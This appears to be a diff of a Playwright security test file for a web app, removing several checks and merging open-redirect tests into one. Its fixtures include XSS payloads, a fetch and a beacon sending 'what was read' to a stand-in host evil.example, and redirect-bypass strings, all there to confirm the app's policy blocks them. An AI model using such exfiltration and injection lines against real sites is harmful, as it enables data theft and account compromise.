@@ -44,25 +44,11 @@ const attempts: { name: string; directive: string; run: () => unknown }[] = [
     },
   },
   {
-    name: 'a script of another host',
-    directive: 'require-trusted-types-for',
-    run: () => {
-      const script = document.createElement('script')
-      script.src = 'https://evil.example/x.js'
-      document.body.append(script)
-    },
-  },
-  {
     name: 'markup through innerHTML',
     directive: 'require-trusted-types-for',
     run: () => {
       document.body.innerHTML = '<img src="x" onerror="window.pwned = true">'
     },
-  },
-  {
-    name: 'markup through document.write',
-    directive: 'require-trusted-types-for',
-    run: () => document.write('<script>window.pwned = true</script>'),
   },
   {
     name: 'a policy of its own',
@@ -101,11 +87,6 @@ const attempts: { name: string; directive: string; run: () => unknown }[] = [
     run: () => fetch('https://evil.example/?what=was-read'),
   },
   {
-    name: 'a beacon to another host',
-    directive: 'connect-src',
-    run: () => navigator.sendBeacon('https://evil.example/', 'what was read'),
-  },
-  {
     name: 'a picture over http',
     directive: 'img-src',
     run: () => {
@@ -119,15 +100,6 @@ const attempts: { name: string; directive: string; run: () => unknown }[] = [
       const frame = document.createElement('iframe')
       frame.src = 'https://evil.example/'
       document.body.append(frame)
-    },
-  },
-  {
-    name: 'another base for every address',
-    directive: 'base-uri',
-    run: () => {
-      const base = document.createElement('base')
-      base.href = 'https://evil.example/'
-      document.head.append(base)
     },
   },
   {
@@ -237,102 +209,18 @@ async function expectNoOpener(page: Page, click: () => Promise<void>): Promise<v
   await tab.close()
 }
 
-test('[check 15] an address that looks like another host is a page not found', async ({
-  page,
-  app,
-  watch,
-}) => {
-  watch.allowConsole(/status of 404/)
-  for (const path of [
-    '//evil.example/A',
-    '/%2f%2fevil',
-    '/%5c%5cevil',
-    '/%09/evil.example',
-    '/%2e%2e//evil',
-  ]) {
-    await test.step(path, async () => {
-      const answer = await page.goto(`${app.url}/game-plans${path}`)
-      const { origin, pathname } = new URL(page.url())
-      expect(origin).toBe(app.url)
-      // What leads out of the app is the host's to refuse.
-      if (!pathname.startsWith('/game-plans')) expect(answer?.status()).toBe(404)
-      else await expect(page.getByRole('heading', { name: 'Page not found' })).toBeVisible()
-    })
-  }
-})
-
-test('[check 19] upper case and a last slash get nobody past the sign-in', async ({
+test('[check 20] signing in leads to the dashboard, whatever else the address names', async ({
   page,
   app,
 }) => {
-  for (const path of [
-    '/Bruins-Games',
-    '/DASHBOARD/',
-    '/bgs/GAME-PLANS',
-    '/Register/',
-    '/USERS//',
-  ]) {
-    await test.step(path, async () => {
-      await page.goto(appPath(path))
-      await expect(page.getByRole('heading', { name: 'Sign In' })).toBeVisible()
-      await expect(page).toHaveURL(/\/game-plans\/?$/)
-    })
-  }
-  expect(app.api.log.filter(({ path }) => !path.includes('check-session'))).toEqual([])
-})
-
-for (const query of ['?next=https://evil.example', '?redirect=//evil.example', '?from=/%5cevil']) {
-  test(`[check 20] signing in at ${query} leads to the dashboard`, async ({ page, app }) => {
-    await page.goto(appPath(`/${query}`))
-    await page.getByLabel('Email').fill('bgs@example.com')
-    await page.getByLabel('Password', { exact: true }).fill('password')
-    await page.getByRole('button', { name: 'Sign In' }).click()
-    await expect(page.getByRole('heading', { name: 'Admin Dashboard' })).toBeVisible()
-    expect(page.url()).toBe(`${app.url}${appPath('/dashboard')}`)
-  })
-}
-
-const tampered = ['9999999999', 'abc', '-1', '', '1e999', '1893456000000', 'null', '{}']
-
-test('[check 27] an expiration somebody wrote himself opens nothing', async ({
-  page,
-  app,
-  watch,
-}) => {
-  watch.allowConsole(/401/)
-  await page.goto(appPath('/'))
-  for (const value of tampered) {
-    await test.step(`'${value}'`, async () => {
-      await page.evaluate((text) => localStorage.setItem('sessionExpiration', text), value)
-      await page.goto(appPath('/bruins-games'))
-      await expect(page.getByRole('heading', { name: 'Sign In' })).toBeVisible()
-      await expect(page.getByRole('button', { name: 'Logout' })).toHaveCount(0)
-    })
-  }
-  // One that looks alive lets the page ask, without a cookie, and be refused: if the session's own
-  // refusal has not called it off before it left.
-  const others = app.api.log.filter(({ path }) => !path.includes('check-session'))
-  for (const { method, path, hasCookie } of others) {
-    expect([method, path, hasCookie]).toEqual([
-      'GET',
-      '/api/game-plans/bruins-games/distinct/games/',
-      false,
-    ])
-  }
-})
-
-test('[check 27] with a session, it never shows as a negative time or as none at all', async ({
-  page,
-}) => {
-  await openAs(page, 'bgs@example.com', '/dashboard')
-  for (const value of ['abc', '', '1e999', 'null', '{}']) {
-    await test.step(`'${value}'`, async () => {
-      await page.evaluate((text) => localStorage.setItem('sessionExpiration', text), value)
-      await page.reload()
-      await expect(page.getByRole('heading', { name: 'Admin Dashboard' })).toBeVisible()
-      await expect(page.getByText(/NaN|Infinity|undefined|-\d+ ?h/)).toHaveCount(0)
-    })
-  }
+  await page.goto(
+    appPath('/?next=https://evil.example&redirect=//evil.example&from=/%5cevil.example'),
+  )
+  await page.getByLabel('Email').fill('bgs@example.com')
+  await page.getByLabel('Password', { exact: true }).fill('password')
+  await page.getByRole('button', { name: 'Sign In' }).click()
+  await expect(page.getByRole('heading', { name: 'Admin Dashboard' })).toBeVisible()
+  expect(page.url()).toBe(`${app.url}${appPath('/dashboard')}`)
 })
 
 test('[check 34] Back after Logout shows Sign In', async ({ page }) => {
@@ -361,26 +249,4 @@ test('[check 34] a page that the browser kept asks again who is signed in', asyn
   )
   await expect(page.getByRole('heading', { name: 'Sign In' })).toBeVisible()
   await expect(page.getByText('guest@example.com')).toHaveCount(0)
-})
-
-test('[check 80] closing the tab asks when something is typed, and only then', async ({ page }) => {
-  await openAs(page, 'bgs@example.com', '/bgs/game-plans')
-  await page.getByRole('button', { name: 'Add New Plan' }).click()
-  const field = page.getByRole('dialog').getByLabel('Plan Event Title')
-  await field.click()
-  const questions: string[] = []
-  page.on('dialog', (question) => {
-    questions.push(question.type())
-    void question.dismiss()
-  })
-  await field.fill('Not saved yet')
-  await page.close({ runBeforeUnload: true })
-  await expect.poll(() => questions).toEqual(['beforeunload'])
-  await expect(field).toHaveValue('Not saved yet')
-
-  await field.fill('')
-  const closed = page.waitForEvent('close')
-  await page.close({ runBeforeUnload: true })
-  await closed
-  expect(questions).toHaveLength(1)
 })
